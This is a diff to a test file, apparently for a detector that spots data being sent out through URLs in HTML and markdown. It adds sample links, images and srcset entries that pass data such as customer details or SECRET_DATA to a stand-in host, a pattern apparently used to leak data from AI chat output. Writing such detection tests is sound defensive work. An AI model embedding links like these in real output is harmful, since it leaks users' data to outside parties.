@@ -19,7 +19,26 @@ describe("a sentence in base64", () => {
     `<a href="https://x.example/?d=${sentence}">more</a>`,
     `[more](https://x.example/?d=${sentence})`,
     `<style>body { background: url("https://x.example/?d=${sentence}") }</style>`,
+    `<img src="https://x.example/a.png" srcset="https://x.example/?d=${sentence}">`,
+    `<a\n  title="x"\n  href = https://x.example/?d=${sentence}>more</a>`,
+    `see\n  [r]: //x.example/?d=${sentence}\n`,
   ])("is found in %s", (text) => {
+    expect(find(text)).toHaveLength(1);
+  });
+
+  it("is found in a picture that is a link, whose own address is read as well", () => {
+    const data = "names+and+numbers+of+all+customers";
+    expect(find(`[![a](https://x.example/?d=${data})](https://x.example/?d=${sentence})`)).toEqual([
+      `https://x.example/?d=${data}`,
+    ]);
+  });
+
+  it.each([
+    "![a](https://x.example/?q={data})",
+    "![a](https://x.example/?q=%7Bdata%7D)",
+    "![a](//x.example/SECRET_DATA)",
+    "[a](https://x.example/?q=YOUR-name)",
+  ])("a place to fill is found in %s", (text) => {
     expect(find(text)).toHaveLength(1);
   });
 
